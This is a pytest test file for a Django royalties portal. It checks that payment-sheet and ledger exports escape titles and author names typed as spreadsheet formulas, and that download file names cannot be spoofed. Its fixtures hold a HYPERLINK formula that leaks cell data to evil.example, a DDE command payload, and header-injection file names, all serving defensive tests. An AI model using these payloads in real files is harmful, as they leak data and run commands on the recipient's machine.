"""A title or an author typed as a formula reaches the accountant's files as text, never as a formula."""

import csv
import datetime as dt
import io
from email.message import Message

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.royalties import services
from portal.royalties.models import RoyaltyPeriod

from .conftest import TEST_YEAR

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?d="&B7,"x")'
AUTHOR = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_period(publish):
    publish(on=dt.date(TEST_YEAR, 3, 4), title=TITLE, author_name=AUTHOR)
    return services.period_open(kind=RoyaltyPeriod.KIND_MONTH, year=TEST_YEAR, number=3)


def _cells(content: bytes):
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def test_the_payment_sheet_shows_formulas_as_text(signed_in, hostile_period):
    response = signed_in("accountant").get(reverse("royalties_period_sheet", args=[hostile_period.pk, "xlsx"]))
    cells = _cells(response.content)
    title = next(cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(TITLE))
    author = next(cell for cell in cells if cell.value == AUTHOR)
    for cell in (title, author):
        assert cell.data_type == "s" and cell.quotePrefix
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, int) and cell.value == 50_000 for cell in cells)  # amounts stay numbers


def test_the_ledger_exports_formulas_as_text(signed_in, hostile_period):
    client = signed_in("accountant")
    rows = list(csv.reader(io.StringIO(client.get(reverse("royalties_ledger"), {"export": "csv"}).getvalue().decode())))
    row = next(row for row in rows if "'" + TITLE in row)
    assert "'" + AUTHOR in row
    xlsx = client.get(reverse("royalties_ledger"), {"export": "xlsx"})
    cells = _cells(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)
    assert {cell.data_type for cell in cells if cell.value in (TITLE, AUTHOR)} == {"s"}
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("extension", ['pdf"; filename="x.exe', "xlsx;filename=x.exe", "exe", "XLSX"])
def test_a_sheet_with_another_extension_is_not_found(signed_in, hostile_period, extension):
    url = reverse("royalties_period_sheet", args=[hostile_period.pk, "xlsx"]).removesuffix("xlsx") + extension
    assert signed_in("accountant").get(url).status_code == 404


def test_the_sheet_carries_one_well_formed_file_name(signed_in, hostile_period):
    client = signed_in("accountant")
    for extension in ("xlsx", "pdf"):
        header = client.get(reverse("royalties_period_sheet", args=[hostile_period.pk, extension]))[
            "Content-Disposition"
        ]
        assert header.count("filename") == 1
        message = Message()
        message["Content-Disposition"] = header
        assert message.get_filename() == f"bang-thanh-toan-nhuan-but-sngv-{TEST_YEAR}-t03-ban-nhap.{extension}"
